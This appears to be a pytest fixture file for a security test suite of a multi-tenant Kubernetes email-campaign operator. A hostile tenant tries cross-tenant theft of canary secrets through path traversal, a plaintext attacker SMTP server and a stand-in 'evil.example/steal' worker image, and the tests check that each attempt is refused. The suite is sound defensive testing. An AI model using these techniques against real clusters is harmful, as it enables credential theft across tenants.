"""The attack suite's world: tenant `acme` with canary secrets and a working campaign, a hostile tenant
`evil` next to it, an attacker's SMTP server on loopback, and the operator and real workers running
with the cluster admin's strict defaults (no cleartext AUTH, no worker image but the admin's).

Everything is module-scoped: the objects are created once, each test checks one attack against them.
"""

from __future__ import annotations

import importlib.util
import os
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import redis
from kubernetes import client
from pot_stack.e2e import sql, wait_for

from .world import (
    CANARY_HOOK,
    CANARY_PASSWORD,
    CANARY_TOKEN,
    DOMAIN,
    WORKER_IMAGE,
    AttackerSmtp,
    Workers,
    World,
    campaign,
    mailbox,
    pool,
    refusal,
)

REPO = Path(__file__).resolve().parents[3]


def _load_operator_fixtures() -> Any:
    """tests/e2e/operator/conftest.py (OperatorProcess, crds_installed), loaded by path: conftests are
    not importable modules under --import-mode=importlib."""
    path = REPO / "tests" / "e2e" / "operator" / "conftest.py"
    spec = importlib.util.spec_from_file_location("pot_e2e_operator_conftest", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


_operator_fixtures = _load_operator_fixtures()
OperatorProcess = _operator_fixtures.OperatorProcess
crds_installed = _operator_fixtures.crds_installed


def _namespace(core: client.CoreV1Api, name: str) -> str:
    core.create_namespace(client.V1Namespace(metadata=client.V1ObjectMeta(name=name)))
    return name


@pytest.fixture(scope="module")
def attacker() -> Iterator[AttackerSmtp]:
    server = AttackerSmtp()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def chat() -> Iterator[Any]:
    from pot_stack.fake_chat import FakeChat

    fake = FakeChat(telegram_tokens={CANARY_TOKEN}, slack_hooks={CANARY_HOOK}).start()
    yield fake
    fake.stop()


@pytest.fixture(scope="module")
def tenancy_database(postgres: Any) -> Iterator[str]:
    name = f"tenancy_{uuid.uuid4().hex[:12]}"
    _execute(postgres.url, f'CREATE DATABASE "{name}"')
    yield postgres.url_for(name)
    _execute(postgres.url, f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def _execute(url: str, statement: str | None) -> None:
    """One statement outside a transaction (CREATE DATABASE), or POT's schema when `statement` is None."""
    import asyncio

    import asyncpg
    from pot_common.db import apply_schema

    async def run() -> None:
        conn = await asyncpg.connect(url)
        try:
            await (apply_schema(conn) if statement is None else conn.execute(statement))
        finally:
            await conn.close()

    asyncio.run(run())


@pytest.fixture(scope="module")
def world(  # type: ignore[no-untyped-def]
    crds_installed,
    kube_api,
    vault,
    dns_server,
    smtp_sink,
    redis_server,
    attacker,
    chat,
    tenancy_database,
    tmp_path_factory,
) -> Iterator[World]:
    uid = uuid.uuid4().hex[:6]
    # A fresh database means fresh pool, mailbox and campaign ids: the limit counters an earlier test
    # left in the session's Redis under the same ids would refuse this world's sends.
    flush = redis.Redis.from_url(redis_server.url)
    try:
        flush.flushall()
    finally:
        flush.close()
    core, custom, apps = (
        client.CoreV1Api(kube_api),
        client.CustomObjectsApi(kube_api),
        client.AppsV1Api(kube_api),
    )
    acme, evil = _namespace(core, f"acme-{uid}"), _namespace(core, f"evil-{uid}")
    logs = tmp_path_factory.mktemp("tenancy-logs")
    bao = vault.client()

    def put(path: str, data: dict[str, str]) -> None:
        bao.secrets.kv.v2.create_or_update_secret(path=path, secret=data, mount_point="secret")

    # acme's secrets in acme's folder, and the password once more where the old convention kept it
    # (pot/mailboxes/<namespace>/<mailbox>: the path attack 1 of the issue named).
    alice = {"username": "alice@acme-mail.test", "password": CANARY_PASSWORD}
    put(f"pot/{acme}/mailboxes/alice", alice)
    put(f"pot/mailboxes/{acme}/alice", alice)
    put(f"pot/{acme}/alerts/telegram", {"token": CANARY_TOKEN})
    put(f"pot/{acme}/alerts/slack", {"url": "https://hooks.slack.com" + CANARY_HOOK})
    # acme's imported list and an unsubscribe, as `potctl import-recipients` / `feedback` write them.
    _execute(tenancy_database, None)
    sql(
        tenancy_database,
        "INSERT INTO recipients (tenant, list_name, address) VALUES ($1, 'acme-list', $2)",
        acme,
        f"lead-{uid}@{DOMAIN}",
    )
    sql(
        tenancy_database,
        "INSERT INTO suppressions (tenant, address, reason) VALUES ($1, $2, 'unsubscribe')",
        acme,
        f"gone-{uid}@{DOMAIN}",
    )

    env = {
        **os.environ,
        "KUBECONFIG": str(crds_installed.admin_kubeconfig),
        "POT_NAMESPACE": f"{acme},{evil}",
        "POT_DATABASE_URL": tenancy_database,
        **vault.env(),
        "POT_RECONCILE_INTERVAL": "1",
        "POT_CAMPAIGN_INTERVAL": "1",
        "POT_DNS_RESOLVER": dns_server.resolver,
        "POT_DNSBL_ZONES": "",
        "POT_TELEGRAM_API_URL": chat.url,
        "POT_SLACK_WEBHOOK_URL": chat.url,
        "POT_WORKER_IMAGE": WORKER_IMAGE,
        # The cluster admin's defaults: no cleartext AUTH, no other worker image, Secret refs allowed.
    }
    env.pop("POT_ALLOW_PLAINTEXT_AUTH", None)
    env.pop("POT_WORKER_IMAGE_ALLOWLIST", None)
    operator = OperatorProcess(env, logs / "operator.log")
    workers = Workers(
        logs / "workers",
        {
            "POT_DATABASE_URL": tenancy_database,
            "POT_REDIS_URL": redis_server.url,
            "POT_VAULT_TOKEN": vault.token,
        },
        {
            "POT_SMTP_CA_FILE": str(smtp_sink.cert_path),
            "POT_DNS_RESOLVER": dns_server.resolver,
            "POT_RETRY_BASE_SECONDS": "2",
            "POT_RETRY_CAP_SECONDS": "5",
            "POT_REFRESH_SECONDS": "1",
        },
    )
    (logs / "workers").mkdir()
    w = World(acme, evil, tenancy_database, operator, attacker, chat, workers, custom, core, apps, uid)
    operator.start()
    try:
        _create_objects(w, smtp_sink)
        for namespace, name in ((acme, "outreach"), (evil, "grab")):
            deployment = wait_for(
                lambda n=namespace, d=name: apps.read_namespaced_deployment(f"pot-worker-{d}", n),
                what=f"Deployment pot-worker-{name} in {namespace}",
                show=operator.log_text,
            )
            workers.start_for(apps.api_client.sanitize_for_serialization(deployment))
        yield w
    finally:
        workers.stop()
        operator.stop()
        for namespace in (acme, evil):
            core.delete_namespace(namespace)


def _create_objects(w: World, sink: Any) -> None:
    """acme's pool, mailbox and campaign; then every attack `evil` tries (and one inside acme)."""
    acme, evil, uid = w.acme, w.evil, w.uid
    routes = {
        "telegram": {"chatId": "-100111", "tokenVaultPath": "alerts/telegram"},
        "slack": {"webhookVaultPath": "alerts/slack"},
    }
    w.create(acme, "mailboxpools", pool("outreach", "outreach", alerts=routes))
    sink_tls = {"host": sink.host, "port": sink.port, "tlsMode": "starttls"}
    w.create(
        acme, "mailboxes", mailbox("alice", "outreach", "alice@acme-mail.test", sink_tls, "mailboxes/alice")
    )
    w.core.create_namespaced_config_map(
        acme,
        client.V1ConfigMap(
            metadata=client.V1ObjectMeta(name="spring-list"),
            data={"recipients.csv": f"email\nok-{uid}@{DOMAIN}\ngone-{uid}@{DOMAIN}\n"},
        ),
    )
    # Attack 3: acme's own campaign renames its tenant to escape acme's unsubscribes.
    spring = campaign("spring", "outreach", {"configMapRef": {"name": "spring-list"}}, tenant="acme-fresh")
    w.refused["tenant-rename"] = refusal(
        lambda: w.create(acme, "campaigns", spring, field_validation="Strict")
    )
    w.create(acme, "campaigns", spring)  # without strict validation the apiserver drops the field

    # Attack 1: evil's mailboxes name alice's password, with evil's own SMTP server and no TLS.
    attacker_plain = {"host": "127.0.0.1", "port": w.attacker.port, "tlsMode": "none"}
    attacker_tls = {"host": "127.0.0.1", "port": w.attacker.port, "tlsMode": "starttls"}
    w.create(
        evil,
        "mailboxes",
        mailbox("steal-plain", "grab", "mallory@nospf.test", attacker_plain, f"pot/mailboxes/{acme}/alice"),
    )
    w.create(
        evil,
        "mailboxes",
        mailbox("steal-tls", "grab", "mallory2@nospf.test", attacker_tls, f"pot/{acme}/mailboxes/alice"),
    )
    climb = mailbox("steal-climb", "grab", "mallory3@nospf.test", attacker_tls, f"../{acme}/mailboxes/alice")
    w.refused["vault-path-climb"] = refusal(lambda: w.create(evil, "mailboxes", climb))
    # Attack 4: evil's pool names acme's alert bot and Slack webhook.
    foreign_routes = {
        "telegram": {"chatId": "-100666", "tokenVaultPath": f"pot/{acme}/alerts/telegram"},
        "slack": {"webhookVaultPath": f"pot/{acme}/alerts/slack"},
    }
    w.create(evil, "mailboxpools", pool("grab", "grab", alerts=foreign_routes))
    climbing_routes = {"telegram": {"chatId": "-100666", "tokenVaultPath": f"../{acme}/alerts/telegram"}}
    w.refused["alert-path-climb"] = refusal(
        lambda: w.create(evil, "mailboxpools", pool("climb", "climb", alerts=climbing_routes))
    )
    # Attack 2: evil's campaign claims acme's tenant and acme's imported list.
    borrow = campaign("borrow", "grab", {"importName": "acme-list"}, tenant=acme)
    w.refused["tenant-claim"] = refusal(
        lambda: w.create(evil, "campaigns", borrow, field_validation="Strict")
    )
    w.create(evil, "campaigns", borrow)
    # A campaign with due jobs for evil's pool, sending anyway past its failed preflight, so evil's
    # worker has work it could send through the attacker's server if any mailbox were usable.
    w.core.create_namespaced_config_map(
        evil,
        client.V1ConfigMap(
            metadata=client.V1ObjectMeta(name="blast-list"),
            data={"recipients.csv": f"email\nvictim-{uid}@{DOMAIN}\n"},
        ),
    )
    w.create(
        evil,
        "campaigns",
        campaign("blast", "grab", {"configMapRef": {"name": "blast-list"}}, preflightOverride=True),
    )
    # Attack 5: evil's pool picks the image that receives the worker Secret.
    w.create(evil, "mailboxpools", pool("image", "image", workers={"image": "evil.example/steal:latest"}))
    # Attack 6: evil makes the Deployment first, hoping the operator adopts it and fills in its env.
    w.apps.create_namespaced_deployment(
        evil,
        {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": "pot-worker-squat", "labels": {"pot.dev/pool": "squat"}},
            "spec": {
                "replicas": 0,
                "selector": {"matchLabels": {"app": "squat"}},
                "template": {
                    "metadata": {"labels": {"app": "squat"}},
                    "spec": {"containers": [{"name": "worker", "image": "evil.example/steal:latest"}]},
                },
            },
        },
    )
    w.create(evil, "mailboxpools", pool("squat", "squat"))
    # Attack 7: evil's pool selects by acme's label.
    w.create(evil, "mailboxpools", pool("reach", "outreach"))
